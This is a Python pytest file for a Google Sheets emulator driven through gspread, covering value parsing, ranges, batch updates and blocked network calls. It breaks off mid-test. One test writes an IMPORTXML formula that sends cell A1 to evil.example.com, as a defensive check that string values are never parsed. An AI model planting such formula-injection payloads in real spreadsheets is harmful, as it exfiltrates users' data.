"""The Sheets emulator, driven through real gspread 6.2.1 as the gateway drives it."""

from __future__ import annotations

import threading
from pathlib import Path
from typing import Any

import gspread
import openpyxl
import pytest
import requests
from gspread.exceptions import APIError, SpreadsheetNotFound
from gspread.http_client import HTTPClient
from gspread.urls import SPREADSHEET_BATCH_UPDATE_URL
from gspread.utils import (
    Dimension,
    InsertDataOption,
    ValidationConditionType,
    ValueInputOption,
    ValueRenderOption,
)

from bot.sandbox.clock import VirtualClock
from bot.sandbox.sheets import NetworkDenied, SheetsEmulator, export_xlsx

MASTER = "商品マスタ"
LOG = "販売ログ"


@pytest.fixture
def emu() -> SheetsEmulator:
    return SheetsEmulator()


@pytest.fixture
def sid(emu: SheetsEmulator) -> str:
    return emu.create_spreadsheet("zaiko", [MASTER, LOG, "_state"])


@pytest.fixture
def sh(emu: SheetsEmulator, sid: str) -> gspread.Spreadsheet:
    return emu.client().open_by_key(sid)


@pytest.fixture
def ws(sh: gspread.Spreadsheet) -> gspread.Worksheet:
    return sh.worksheet(MASTER)


def batch(sh: gspread.Spreadsheet, *requests_: dict[str, Any]) -> dict[str, Any]:
    reply: dict[str, Any] = sh.batch_update({"requests": list(requests_)})
    return reply


def sheet_id(emu: SheetsEmulator, sid: str, title: str) -> int:
    return int(emu.sheet_properties(sid, title)["sheetId"])


# --------------------------------------------------------------------------- wiring


def test_open_by_key_reads_metadata(emu: SheetsEmulator, sid: str) -> None:
    sh = emu.client().open_by_key(sid)
    assert sh.title == "zaiko"
    assert sh.locale == "ja_JP"
    assert sh.timezone == "Asia/Tokyo"
    assert [w.title for w in sh.worksheets()] == [MASTER, LOG, "_state"]
    ws = sh.worksheet(MASTER)
    assert (ws.id, ws.index, ws.row_count, ws.col_count) == (0, 0, 1000, 26)
    assert emu.counts() == {"read": 3, "write": 0}


def test_ids_are_deterministic() -> None:
    a, b = SheetsEmulator(), SheetsEmulator()
    ids_a = [a.create_spreadsheet("x", ["A", "B"]), a.create_spreadsheet("y")]
    ids_b = [b.create_spreadsheet("x", ["A", "B"]), b.create_spreadsheet("y")]
    assert ids_a == ids_b and ids_a[0] != ids_a[1]
    assert (
        a.sheet_properties(ids_a[0], "B")["sheetId"] == b.sheet_properties(ids_b[0], "B")["sheetId"]
    )


def test_unknown_spreadsheet_is_not_found(emu: SheetsEmulator) -> None:
    with pytest.raises(SpreadsheetNotFound):
        emu.client().open_by_key("nope")


def test_other_hosts_are_refused_loudly(emu: SheetsEmulator) -> None:
    session = emu.session()
    with pytest.raises(NetworkDenied):
        session.get("https://oauth2.googleapis.com/token")
    with pytest.raises(NetworkDenied):
        session.get("http://example.com/")
    with pytest.raises(NetworkDenied):  # Drive-backed gspread calls never leave the process
        emu.client().open("zaiko")


def test_client_sets_a_timeout_and_a_custom_http_client_works(
    emu: SheetsEmulator, sid: str
) -> None:
    class Counting(HTTPClient):
        calls = 0

        def request(self, *args: Any, **kwargs: Any) -> requests.Response:
            Counting.calls += 1
            return super().request(*args, **kwargs)

    gc = gspread.Client(auth=None, session=emu.session(), http_client=Counting)  # type: ignore[arg-type]
    gc.set_timeout((1, 2))
    gc.open_by_key(sid).worksheet(MASTER).update([["x"]], "A1")
    assert Counting.calls == 3
    assert [r.timeout for r in emu.requests] == [(1, 2)] * 3
    emu.client().open_by_key(sid)
    assert emu.requests[-1].timeout == (5, 30)


# --------------------------------------------------------------------------- values


def test_raw_and_user_entered_writes(emu: SheetsEmulator, sid: str, ws: gspread.Worksheet) -> None:
    row = ["00123", "12", "=1+2", "TRUE", "'007", "1,234", "10%", "１２"]
    ws.update([row], "A1", value_input_option=ValueInputOption.raw)
    ws.update([row], "A2", value_input_option=ValueInputOption.user_entered)
    values = emu.get_values(sid, MASTER)
    assert values[0] == row  # RAW: stored exactly as sent, "=1+2" stays text
    assert values[1] == [123, 12, "=1+2", True, "007", 1234, 0.1, "１２"]
    assert ws.get("A2:H2")[0] == ["123", "12", "=1+2", "TRUE", "007", "1,234", "10%", "１２"]


def test_render_options(emu: SheetsEmulator, sid: str, ws: gspread.Worksheet) -> None:
    ws.update([[1.5, 2, True, "=SUM(A1:B1)", "text"]], "A1")
    ws.update([["=NOW()"]], "F1", raw=False)
    emu.set_computed(sid, MASTER, "F1", 46000.25)
    assert ws.get("A1:F1", value_render_option=ValueRenderOption.unformatted) == [
        [1.5, 2, True, "=SUM(A1:B1)", "text", 46000.25]
    ]
    assert ws.get("A1:F1", value_render_option=ValueRenderOption.formatted) == [
        ["1.5", "2", "TRUE", "=SUM(A1:B1)", "text", "46000.25"]
    ]
    assert ws.get("A1:F1", value_render_option=ValueRenderOption.formula) == [
        [1.5, 2, True, "=SUM(A1:B1)", "text", "=NOW()"]
    ]


def test_formula_without_computed_value_renders_its_text(
    emu: SheetsEmulator, sid: str, ws: gspread.Worksheet
) -> None:
    ws.update([["=A2*2"]], "A1", raw=False)
    assert ws.get("A1", value_render_option=ValueRenderOption.unformatted) == [["=A2*2"]]
    with pytest.raises(ValueError, match="no formula"):
        emu.set_computed(sid, MASTER, "B1", 1)


def test_dates_typed_by_staff_become_serial_numbers(
    emu: SheetsEmulator, sid: str, sh: gspread.Spreadsheet
) -> None:
    emu.set_values(sid, MASTER, "A1", [["2026-11-23 14:05:09", "2026/11/23"]])
    raw = sh.values_get(f"'{MASTER}'!A1:B1", params={"valueRenderOption": "UNFORMATTED_VALUE"})
    assert raw["values"] == [[pytest.approx(46349.58691, abs=1e-5), 46349]]
    shown = sh.values_get(f"'{MASTER}'!A1:B1")
    assert shown["values"] == [["2026-11-23 14:05:09", "2026/11/23"]]
    as_string = sh.values_get(
        f"'{MASTER}'!A1:B1",
        params={
            "valueRenderOption": "UNFORMATTED_VALUE",
            "dateTimeRenderOption": "FORMATTED_STRING",
        },
    )
    assert as_string["values"] == shown["values"]


def test_text_formatted_column_keeps_leading_zeros(
    emu: SheetsEmulator, sid: str, sh: gspread.Spreadsheet, ws: gspread.Worksheet
) -> None:
    batch(
        sh,
        {
            "repeatCell": {
                "range": {
                    "sheetId": 0,
                    "startRowIndex": 1,
                    "startColumnIndex": 0,
                    "endColumnIndex": 1,
                },
                "cell": {"userEnteredFormat": {"numberFormat": {"type": "TEXT"}}},
                "fields": "userEnteredFormat.numberFormat",
            }
        },
    )
    ws.update([["商品コード"], ["00123"], ["=1+1"]], "A1", raw=False)
    ws.update([["00123"]], "B2", raw=False)
    assert emu.get_values(sid, MASTER) == [["商品コード"], ["00123", 123], ["=1+1"]]
    assert emu.cell_format(sid, MASTER, "A500") == {"numberFormat": {"type": "TEXT"}}
    assert emu.cell_format(sid, MASTER, "B2") == {}


_TEXT = {"numberFormat": {"type": "TEXT"}}
_NUMBER = {"numberFormat": {"type": "NUMBER", "pattern": "0"}}


@pytest.mark.parametrize(
    ("fmt", "typed", "stored"),
    [
        # An automatic (unformatted) cell parses what is typed as a number.
        (None, "+20", 20),
        (None, "-0", 0),
        (None, "00123", 123),
        (None, "-2", -2),
        (None, "'+20", "+20"),
        # So does a number-formatted cell.
        (_NUMBER, "+20", 20),
        (_NUMBER, "-0", 0),
        (_NUMBER, "00123", 123),
        # A TEXT (書式なしテキスト) cell keeps the text as typed.
        (_TEXT, "+20", "+20"),
        (_TEXT, "-0", "-0"),
        (_TEXT, "00123", "00123"),
        (_TEXT, "20", "20"),
    ],
)
def test_typed_values_are_stored_by_the_cells_number_format(
    emu: SheetsEmulator,
    sid: str,
    sh: gspread.Spreadsheet,
    fmt: dict[str, Any] | None,
    typed: str,
    stored: Any,
) -> None:
    """USER_ENTERED "as if the user typed them into the UI" (ValueInputOption): Google
    parses by the cell's number format, so the production reader sees what staff's
    ``+20`` really became."""
    if fmt is not None:
        batch(
            sh,
            {
                "repeatCell": {
                    "range": {"sheetId": sheet_id(emu, sid, MASTER), "startColumnIndex": 0},
                    "cell": {"userEnteredFormat": fmt},
                    "fields": "userEnteredFormat.numberFormat",
                }
            },
        )
    sh.values_update(
        f"'{MASTER}'!A2", params={"valueInputOption": "USER_ENTERED"}, body={"values": [[typed]]}
    )
    emu.set_values(sid, MASTER, "A3", [[typed]])  # staff typing goes the same way
    got = emu.get_values(sid, MASTER, "UNFORMATTED_VALUE")
    assert got[1:] == [[stored], [stored]]
    assert type(got[1][0]) is type(stored)


def test_rows_added_at_the_bottom_get_no_format(
    emu: SheetsEmulator, sid: str, sh: gspread.Spreadsheet
) -> None:
    """The unbounded repeatCell reaches the grid's rows at the time; rows added later by
    "add rows at the bottom" get none here (UNCONFIRMED on Google: the unkind case)."""
    batch(
        sh,
        {
            "repeatCell": {
                "range": {"sheetId": sheet_id(emu, sid, MASTER), "startColumnIndex": 0},
                "cell": {"userEnteredFormat": _TEXT},
                "fields": "userEnteredFormat.numberFormat",
            }
        },
    )
    emu.append_rows(sid, MASTER, 300)
    emu.set_values(sid, MASTER, "A1000", [["00123"]])
    emu.set_values(sid, MASTER, "A1200", [["00123"]])
    got = emu.get_values(sid, MASTER)
    assert got[999] == ["00123"] and got[1199] == [123]
    assert emu.cell_format(sid, MASTER, "A1200") == {}
    assert sh.values_get(f"'{MASTER}'")["range"] == f"'{MASTER}'!A1:Z1300"


def test_reads_trim_and_omit_values_of_empty_ranges(
    sh: gspread.Spreadsheet, ws: gspread.Worksheet
) -> None:
    ws.update([["a", None, "", None], [None], ["", "b"]], "B2")
    got = sh.values_get(f"'{MASTER}'!A1:E10")
    assert got == {
        "range": f"'{MASTER}'!A1:E10",
        "majorDimension": "ROWS",
        "values": [[], ["", "a"], [], ["", "", "b"]],
    }
    empty = sh.values_get(f"'{MASTER}'!K1:L5")
    assert empty == {"range": f"'{MASTER}'!K1:L5", "majorDimension": "ROWS"}
    assert ws.get("K1:L5") == [[]]
    with pytest.raises(APIError) as err:
        sh.values_get(f"'{MASTER}'!A2000")
    assert err.value.code == 400 and "exceeds grid limits" in str(err.value)


def test_columns_major_dimension(sh: gspread.Spreadsheet, ws: gspread.Worksheet) -> None:
    ws.update([["a", "b"], ["c"]], "A1")
    got = sh.values_get(f"'{MASTER}'!A1:C3", params={"majorDimension": "COLUMNS"})
    assert got["majorDimension"] == "COLUMNS"
    assert got["values"] == [["a", "c"], ["b"]]
    ws.update([["x", "y"], ["z"]], "D1", major_dimension=Dimension.cols)
    assert ws.get("D1:E2") == [["x", "z"], ["y"]]


@pytest.mark.parametrize(
    ("a1", "expected_range", "expected"),
    [
        (
            f"'{MASTER}'",
            f"'{MASTER}'!A1:Z1000",
            [["h1", "h2", "h3"], ["a", "b", "c"], ["d", "e", "f"]],
        ),
        (f"{MASTER}!A:B", f"'{MASTER}'!A1:B1000", [["h1", "h2"], ["a", "b"], ["d", "e"]]),
        (f"'{MASTER}'!A2:A", f"'{MASTER}'!A2:A1000", [["a"], ["d"]]),
        (f"'{MASTER}'!B2:2", f"'{MASTER}'!B2:Z2", [["b", "c"]]),
        (f"'{MASTER}'!1:1", f"'{MASTER}'!A1:Z1", [["h1", "h2", "h3"]]),
        (f"'{MASTER}'!A1:C1", f"'{MASTER}'!A1:C1", [["h1", "h2", "h3"]]),
        (f"'{MASTER}'!$C$3:B2", f"'{MASTER}'!B2:C3", [["b", "c"], ["e", "f"]]),
        ("C3", f"'{MASTER}'!C3", [["f"]]),
        (MASTER, f"'{MASTER}'!A1:Z1000", [["h1", "h2", "h3"], ["a", "b", "c"], ["d", "e", "f"]]),
    ],
)
def test_a1_forms(
    sh: gspread.Spreadsheet, ws: gspread.Worksheet, a1: str, expected_range: str, expected: Any
) -> None:
    ws.update([["h1", "h2", "h3"], ["a", "b", "c"], ["d", "e", "f"]], "A1")
    got = sh.values_get(a1)
    assert got["range"] == expected_range
    assert got["values"] == expected


@pytest.mark.parametrize(
    "bad", ["'Nope'!A1", "Nope!A1", "'未定義'", f"'{MASTER}'!A1:", f"'{MASTER}'!1A", "A:1", "'x"]
)
def test_bad_ranges_are_400(sh: gspread.Spreadsheet, bad: str) -> None:
    with pytest.raises(APIError) as err:
        sh.values_get(bad)
    assert err.value.code == 400
    assert err.value.error["status"] == "INVALID_ARGUMENT"
    assert "Unable to parse range" in err.value.error["message"]


def test_quoted_titles_with_apostrophes_and_japanese(
    emu: SheetsEmulator, sid: str, sh: gspread.Spreadsheet
) -> None:
    ws = sh.add_worksheet("O'Reilly 在庫 (本店)", rows=10, cols=3)
    ws.update([["x", 1]], "A1")
    assert ws.get_all_values() == [["x", "1"]]
    got = sh.values_batch_get(["'O''Reilly 在庫 (本店)'!A1:B1", f"'{MASTER}'!A1"])
    assert got["valueRanges"][0]["range"] == "'O''Reilly 在庫 (本店)'!A1:B1"
    assert emu.get_values(sid, "O'Reilly 在庫 (本店)") == [["x", 1]]


def test_batch_get_each_render_option(sh: gspread.Spreadsheet, ws: gspread.Worksheet) -> None:
    ws.update([["sku", 3, True]], "A1")
    cases: list[tuple[ValueRenderOption, list[Any]]] = [
        (ValueRenderOption.formatted, ["sku", "3", "TRUE"]),
        (ValueRenderOption.unformatted, ["sku", 3, True]),
        (ValueRenderOption.formula, ["sku", 3, True]),
    ]
    for option, expected in cases:
        first, second = ws.batch_get(["A1:C1", "C1"], value_render_option=option)
        assert first == [expected]
        assert second == [[expected[2]]]
        assert first.range == f"'{MASTER}'!A1:C1"


def test_values_batch_update_is_all_or_nothing(
    emu: SheetsEmulator, sid: str, ws: gspread.Worksheet
) -> None:
    ws.batch_update(
        [{"range": "A1", "values": [["a"]]}, {"range": "B2:C2", "values": [["b", "c"]]}]
    )
    assert emu.get_values(sid, MASTER) == [["a"], ["", "b", "c"]]
    before = emu.get_values(sid, MASTER)
    with pytest.raises(APIError) as err:
        ws.batch_update(
            [
                {"range": "A1", "values": [["changed"]]},
                {"range": "A1:A1", "values": [["x", "too wide"]]},
            ]
        )
    assert err.value.code == 400 and "tried writing to column [B]" in str(err.value)
    with pytest.raises(APIError):
        ws.spreadsheet.values_batch_update(
            {
                "valueInputOption": "RAW",
                "data": [
                    {"range": f"'{MASTER}'!A1", "values": [["x"]]},
                    {"range": "'Nope'!A1", "values": [["y"]]},
                ],
            }
        )
    assert emu.get_values(sid, MASTER) == before


def test_values_writes_grow_the_grid(
    emu: SheetsEmulator, sid: str, sh: gspread.Spreadsheet
) -> None:
    ws = sh.add_worksheet("small", rows=2, cols=2)
    ws.update([["a", "b", "c"], ["d"], ["e"]], "A1")
    props = emu.sheet_properties(sid, "small")["gridProperties"]
    assert (props["rowCount"], props["columnCount"]) == (3, 3)
    with pytest.raises(APIError) as err:  # a bounded range that is too small is refused
        ws.update([["a"], ["b"], ["c"]], "A1:A2")
    assert "tried writing to row [3]" in str(err.value)


def test_missing_value_input_option_is_400(sh: gspread.Spreadsheet) -> None:
    with pytest.raises(APIError) as err:
        sh.values_update(f"'{MASTER}'!A1", params={}, body={"values": [["x"]]})
    assert "valueInputOption" in str(err.value)


def test_append_rows_goes_after_the_table(
    emu: SheetsEmulator, sid: str, sh: gspread.Spreadsheet
) -> None:
    ws = sh.add_worksheet("log", rows=3, cols=3)
    ws.update([["日時", "内容"], ["t1", "a"]], "A1")
    result = ws.append_rows([["t2", '=IMPORTXML("http://x.example.com","//a")'], ["t3", "c"]])
    assert result["updates"]["updatedRange"] == "log!A3:B4"
    assert result["tableRange"] == "log!A1:B2"
    assert emu.get_values(sid, "log") == [
        ["日時", "内容"],
        ["t1", "a"],
        ["t2", '=IMPORTXML("http://x.example.com","//a")'],
        ["t3", "c"],
    ]
    assert emu.get_values(sid, "log", render="FORMULA")[2][1].startswith("=IMPORTXML")
    assert emu.sheet_properties(sid, "log")["gridProperties"]["rowCount"] == 4
    ws.append_rows([["t4", "d"]], insert_data_option=InsertDataOption.insert_rows)
    assert emu.get_values(sid, "log")[-1] == ["t4", "d"]
    assert emu.sheet_properties(sid, "log")["gridProperties"]["rowCount"] == 5


def test_insert_rows_via_gspread_lands_in_place(
    emu: SheetsEmulator, sid: str, ws: gspread.Worksheet
) -> None:
    ws.update([["h"], ["a"], ["b"]], "A1")
    ws.insert_rows([["new1"], ["new2"]], row=2)
    assert emu.get_values(sid, MASTER) == [["h"], ["new1"], ["new2"], ["a"], ["b"]]


def test_clear_and_batch_clear_keep_formats(
    emu: SheetsEmulator, sid: str, ws: gspread.Worksheet
) -> None:
    ws.update([["a", "b"], ["c", "d"]], "A1")
    ws.format("A1:B1", {"textFormat": {"bold": True}})
    ws.batch_clear(["A1", "B2"])
    assert emu.get_values(sid, MASTER) == [["", "b"], ["c"]]
    ws.clear()
    assert emu.get_values(sid, MASTER) == []
    assert emu.cell_format(sid, MASTER, "A1") == {"textFormat": {"bold": True}}


# --------------------------------------------------------------------------- :batchUpdate


def test_add_update_and_delete_sheets(
    emu: SheetsEmulator, sid: str, sh: gspread.Spreadsheet
) -> None:
    reply = batch(
        sh,
        {
            "addSheet": {
                "properties": {
                    "title": "出品状況",
                    "index": 1,
                    "gridProperties": {"rowCount": 50, "columnCount": 8},
                }
            }
        },
    )
    props = reply["replies"][0]["addSheet"]["properties"]
    assert (
        props["title"] == "出品状況" and props["index"] == 1 and isinstance(props["sheetId"], int)
    )
    assert props["gridProperties"] == {"rowCount": 50, "columnCount": 8}
    assert emu.sheet_titles(sid) == [MASTER, "出品状況", LOG, "_state"]
    new_id = props["sheetId"]
    batch(
        sh,
        {
            "updateSheetProperties": {
                "properties": {
                    "sheetId": new_id,
                    "title": "出品",
                    "gridProperties": {"frozenRowCount": 1},
                },
                "fields": "title,gridProperties.frozenRowCount",
            }
        },
    )
    assert emu.sheet_properties(sid, "出品")["gridProperties"] == {
        "rowCount": 50,
        "columnCount": 8,
        "frozenRowCount": 1,
    }
    ws = sh.worksheet("出品")
    ws.hide()
    assert emu.sheet_properties(sid, "出品")["hidden"] is True
    ws.show()
    assert "hidden" not in emu.sheet_properties(sid, "出品")
    sh.del_worksheet(ws)
    assert emu.sheet_titles(sid) == [MASTER, LOG, "_state"]
    with pytest.raises(APIError, match="already exists"):
        batch(sh, {"addSheet": {"properties": {"title": LOG}}})


def test_freeze_resize_and_hide_through_gspread(
    emu: SheetsEmulator, sid: str, sh: gspread.Spreadsheet
) -> None:
    ws = sh.worksheet("_state")
    ws.freeze(rows=1, cols=1)
    ws.resize(rows=20, cols=2)
    ws.hide()
    assert emu.sheet_properties(sid, "_state") == {
        "sheetId": ws.id,
        "title": "_state",
        "index": 2,
        "sheetType": "GRID",
        "gridProperties": {
            "rowCount": 20,
            "columnCount": 2,
            "frozenRowCount": 1,
            "frozenColumnCount": 1,
        },
        "hidden": True,
    }
    meta = sh.fetch_sheet_metadata()
    assert meta["sheets"][2]["properties"]["hidden"] is True
    with pytest.raises(APIError, match="freeze all visible rows"):
        ws.freeze(rows=20)


def test_update_cells_string_value_is_never_parsed(
    emu: SheetsEmulator, sid: str, sh: gspread.Spreadsheet
) -> None:
    evil = '=IMPORTXML("https://evil.example.com/?"&A1,"//x")'
    batch(
        sh,
        {
            "updateCells": {
                "start": {"sheetId": 0, "rowIndex": 0, "columnIndex": 0},
                "rows": [
                    {
                        "values": [
                            {"userEnteredValue": {"stringValue": evil}},
                            {"userEnteredValue": {"stringValue": "00123"}},
                        ]
                    },
                    {
                        "values": [
                            {"userEnteredValue": {"numberValue": 12}},
                            {"userEnteredValue": {"boolValue": False}},
                            {"userEnteredValue": {"formulaValue": "=A2+1"}},
                        ]
                    },
                ],
                "fields": "userEnteredValue",
            }
        },
    )
    assert emu.get_values(sid, MASTER, render="FORMULA") == [[evil, "00123"], [12, False, "=A2+1"]]
    cell = sh.fetch_sheet_metadata(
        params={"includeGridData": "true", "ranges": f"'{MASTER}'!A1:A1"}
    )
    data = cell["sheets"][0]["data"][0]["rowData"][0]["values"][0]
    assert data["userEnteredValue"] == {"stringValue": evil}
    assert data["effectiveValue"] == {"stringValue": evil}


def test_update_cells_with_range_and_field_masks(
    emu: SheetsEmulator, sid: str, sh: gspread.Spreadsheet, ws: gspread.Worksheet
) -> None:
    ws.update([["a", "b"], ["c", "d"]], "A1")
    ws.format("A1", {"textFormat": {"bold": True}})
    batch(
        sh,
        {
            "updateCells": {
                "range": {
                    "sheetId": 0,
                    "startRowIndex": 0,
                    "endRowIndex": 2,
                    "startColumnIndex": 0,
                    "endColumnIndex": 2,
                },
                "rows": [
                    {
                        "values": [
                            {
                                "userEnteredValue": {"stringValue": "A"},
                                "userEnteredFormat": {"numberFormat": {"type": "TEXT"}},
                            }
                        ]
                    }
                ],
                "fields": "userEnteredValue",
            }
        },
    )
    # Cells of the range not covered by rows are cleared for the masked field; formats stay.
    assert emu.get_values(sid, MASTER) == [["A"]]
    assert emu.cell_format(sid, MASTER, "A1") == {"textFormat": {"bold": True}}
    batch(
        sh,
        {
            "updateCells": {
                "start": {"sheetId": 0, "rowIndex": 0, "columnIndex": 0},
                "rows": [{"values": [{"userEnteredFormat": {"numberFormat": {"type": "TEXT"}}}]}],
                "fields": "userEnteredFormat/numberFormat",
            }
        },
    )
    assert emu.cell_format(sid, MASTER, "A1") == {
        "textFormat": {"bold": True},
        "numberFormat": {"type": "TEXT"},
    }
    assert emu.get_values(sid, MASTER) == [["A"]]


def test_update_cells_outside_the_grid_is_400(
    emu: SheetsEmulator, sid: str, sh: gspread.Spreadsheet
) -> None:
    small = sh.add_worksheet("small", rows=2, cols=2)
    for start in ({"rowIndex": 2, "columnIndex": 0}, {"rowIndex": 0, "columnIndex": 1}):
        with pytest.raises(APIError) as err:
            batch(
                sh,
                {
                    "updateCells": {
                        "start": {"sheetId": small.id, **start},
                        "rows": [
                            {
                                "values": [
                                    {"userEnteredValue": {"stringValue": "x"}},
                                    {"userEnteredValue": {"stringValue": "y"}},
                                ]
                            }
                        ],
                        "fields": "userEnteredValue",
                    }
                },
            )
        assert err.value.code == 400 and "requests[0].updateCells" in str(err.value)
    assert emu.get_values(sid, "small") == []


def test_append_cells_in_the_same_atomic_call_as_update_cells(
    emu: SheetsEmulator, sid: str, sh: gspread.Spreadsheet
) -> None:
    log_id = sheet_id(emu, sid, LOG)
    small = batch(
        sh,
        {
            "addSheet": {
                "properties": {"title": "tiny", "gridProperties": {"rowCount": 1, "columnCount": 3}}
            }
        },
    )
    tiny_id = small["replies"][0]["addSheet"]["properties"]["sheetId"]
    emu.set_values(sid, LOG, "A1", [["日時", "キー"], ["t1", "k1"], [None], ["t3", "k3"]])

    def row(*values: Any) -> dict[str, Any]:
        return {"values": [{"userEnteredValue": {"stringValue": v}} for v in values]}

    reply = batch(
        sh,
        {
            "updateCells": {
                "start": {"sheetId": 0, "rowIndex": 1, "columnIndex": 2},
                "rows": [{"values": [{"userEnteredValue": {"numberValue": 9}}]}],
                "fields": "userEnteredValue",
            }
        },
        {
            "appendCells": {
                "sheetId": log_id,
                "rows": [row("t4", "k4")],
                "fields": "userEnteredValue",
            }
        },
        {"appendCells": {"sheetId": tiny_id, "rows": [row("a"), row("b")], "fields": "*"}},
    )
    assert reply["replies"] == [{}, {}, {}]
    assert emu.get_values(sid, MASTER) == [[], ["", "", 9]]
    assert emu.get_values(sid, LOG) == [
        ["日時", "キー"],
        ["t1", "k1"],
        [],
        ["t3", "k3"],
        ["t4", "k4"],
    ]
    assert emu.get_values(sid, "tiny") == [["a"], ["b"]]
    assert emu.sheet_properties(sid, "tiny")["gridProperties"]["rowCount"] == 2


def test_batch_update_is_all_or_nothing(
    emu: SheetsEmulator, sid: str, sh: gspread.Spreadsheet
) -> None:
    emu.set_values(sid, MASTER, "A1", [["sku", "stock"], ["A", 5]])
    titles = emu.sheet_titles(sid)
    with pytest.raises(APIError) as err:
        batch(
            sh,
            {
                "updateCells": {
                    "start": {"sheetId": 0, "rowIndex": 1, "columnIndex": 1},
                    "rows": [{"values": [{"userEnteredValue": {"numberValue": 4}}]}],
                    "fields": "userEnteredValue",
                }
            },
            {"addSheet": {"properties": {"title": "new"}}},
            {"appendCells": {"sheetId": 424242, "rows": [], "fields": "userEnteredValue"}},
        )
    assert err.value.code == 400
    assert (
        "requests[2].appendCells" in err.value.error["message"]
        and "No grid with id: 424242" in err.value.error["message"]
    )
    assert emu.get_values(sid, MASTER) == [["sku", "stock"], ["A", 5]]
    assert emu.sheet_titles(sid) == titles


def _stock_write(row: int, value: int) -> dict[str, Any]:
    return {
        "updateCells": {
            "start": {"sheetId": 0, "rowIndex": row, "columnIndex": 2},
            "rows": [{"values": [{"userEnteredValue": {"numberValue": value}}]}],
            "fields": "userEnteredValue",
        }
    }


def test_batch_update_answers_with_the_ranges_as_it_left_them(
    emu: SheetsEmulator, sid: str, sh: gspread.Spreadsheet
) -> None:
    emu.set_values(sid, MASTER, "A1", [["sku", "name", "stock"], ["A", "x", 5, "=C2+1"], ["B"]])
    emu.set_computed(sid, MASTER, "D2", 6)
    emu.reset_counts()

    reply = sh.batch_update(
        {
            "requests": [_stock_write(1, 4)],
            "includeSpreadsheetInResponse": True,
            "responseRanges": [f"'{MASTER}'!A:A", f"'{MASTER}'!C2:D3"],
            "responseIncludeGridData": True,
        }
    )

    assert emu.counts() == {"read": 0, "write": 1}
    assert reply["replies"] == [{}]
    (sheet,) = reply["updatedSpreadsheet"]["sheets"]  # only the tabs the ranges name
    assert sheet["properties"]["title"] == MASTER
    whole_a, block = sheet["data"]
    # GridData per range; a zero startRow/startColumn is omitted, as proto3 JSON does.
    assert "startRow" not in whole_a and "startColumn" not in whole_a
    assert [r["values"][0]["userEnteredValue"] for r in whole_a["rowData"]] == [
        {"stringValue": "sku"},
        {"stringValue": "A"},
        {"stringValue": "B"},
    ]
    assert (block["startRow"], block["startColumn"]) == (1, 2)
    stock, formula = block["rowData"][0]["values"]
    # Read after the write, in the same atomic step: the stock is already 4.
    assert stock == {
        "userEnteredValue": {"numberValue": 4},
        "effectiveValue": {"numberValue": 4},
        "formattedValue": "4",
    }
    assert formula["userEnteredValue"] == {"formulaValue": "=C2+1"}
    assert formula["effectiveValue"] == {"numberValue": 6}
    assert formula["formattedValue"] == "6"
    assert block["rowData"][1:] == []  # trailing empty rows left out, like values reads


def test_batch_update_spreadsheet_in_response_only_when_asked(
    emu: SheetsEmulator, sid: str, sh: gspread.Spreadsheet
) -> None:
    reply = sh.batch_update(
        {"requests": [_stock_write(1, 4)], "includeSpreadsheetInResponse": True}
    )
    book = reply["updatedSpreadsheet"]
    assert book["spreadsheetId"] == sid
    assert [s["properties"]["title"] for s in book["sheets"]] == [MASTER, LOG, "_state"]
    assert all("data" not in s for s in book["sheets"])  # no grid data unless asked
    reply = sh.batch_update(
        {
            "requests": [_stock_write(1, 5)],
            "responseRanges": [f"'{MASTER}'!A:A"],
            "responseIncludeGridData": True,
        }
    )
    assert "updatedSpreadsheet" not in reply  # meaningful only with the include flag


@pytest.mark.parametrize(
    "ranges",
    [["'nope'!A:A"], [f"'{MASTER}'!A1:"], f"'{MASTER}'!A:A"],
    ids=["unknown-tab", "bad-a1", "not-a-list"],
)
def test_bad_response_ranges_fail_the_whole_batch(
    emu: SheetsEmulator, sid: str, sh: gspread.Spreadsheet, ranges: Any
) -> None:
    with pytest.raises(APIError) as err:
        sh.batch_update(
            {
                "requests": [_stock_write(1, 4)],
                "includeSpreadsheetInResponse": True,
                "responseRanges": ranges,
            }
        )
    assert err.value.code == 400 and "responseRanges" in err.value.error["message"]
    assert emu.get_values(sid, MASTER) == []


def test_fields_mask_trims_any_answer_and_selects_grid_data(
    emu: SheetsEmulator, sid: str, sh: gspread.Spreadsheet, ws: gspread.Worksheet
) -> None:
    emu.set_values(sid, MASTER, "A1", [["sku"], ["A"]])
    ws.format("A1:A2", {"numberFormat": {"type": "TEXT"}})
    body = {
        "requests": [_stock_write(1, 4)],
        "includeSpreadsheetInResponse": True,
        "responseRanges": [f"'{MASTER}'!A:A"],
        # no responseIncludeGridData: Google ignores it when a field mask is set
    }
    mask = "updatedSpreadsheet(sheets(properties/sheetId,data(startRow,rowData/values/userEnteredValue)))"
    url = SPREADSHEET_BATCH_UPDATE_URL % sid

    reply = sh.client.request("post", url, json=body, params={"fields": mask}).json()

    assert reply == {
        "updatedSpreadsheet": {
            "sheets": [
                {
                    "properties": {"sheetId": 0},
                    "data": [
                        {
                            "rowData": [
                                {"values": [{"userEnteredValue": {"stringValue": "sku"}}]},
                                {"values": [{"userEnteredValue": {"stringValue": "A"}}]},
                            ]
                        }
                    ],
                }
            ]
        }
    }
    assert emu.get_values(sid, MASTER) == [["sku"], ["A", "", 4]]
    # The same system parameter on a metadata read, and gspread's notes that rely on it.
    assert sh.fetch_sheet_metadata(params={"fields": "properties/title"}) == {
        "properties": {"title": "zaiko"}
    }
    ws.update_note("B2", "棚の奥")
    assert ws.get_note("B2") == "棚の奥"
    assert ws.get_notes() == [[], ["", "棚の奥"]]  # cells without a note left out


@pytest.mark.parametrize("kind", ["updateBorders", "autoResizeDimensions", "mergeCells", "bogus"])
def test_unknown_request_types_are_400(sh: gspread.Spreadsheet, kind: str) -> None:
    with pytest.raises(APIError) as err:
        batch(sh, {kind: {"range": {"sheetId": 0}}})
    assert err.value.code == 400 and kind in str(err.value)


def test_bad_sub_request_shapes(sh: gspread.Spreadsheet) -> None:
    bodies: list[dict[str, Any]] = [
        {"requests": []},
        {"requests": [{}]},
        {"requests": [{"addSheet": {}, "deleteSheet": {"sheetId": 0}}]},
    ]
    for body in bodies:
        with pytest.raises(APIError) as err:
            sh.batch_update(body)
        assert err.value.code == 400


def test_malformed_bodies_are_400_not_crashes(sh: gspread.Spreadsheet) -> None:
    for body in (
        {"requests": [{"updateCells": {"start": {"sheetId": 0}, "rows": "oops", "fields": "*"}}]},
        {"requests": [{"repeatCell": {"range": {"sheetId": 0, "endRowIndex": -1}, "fields": "*"}}]},
        {"requests": [{"setDataValidation": {"range": {"sheetId": 0}, "rule": ["x"]}}]},
    ):
        with pytest.raises(APIError) as err:
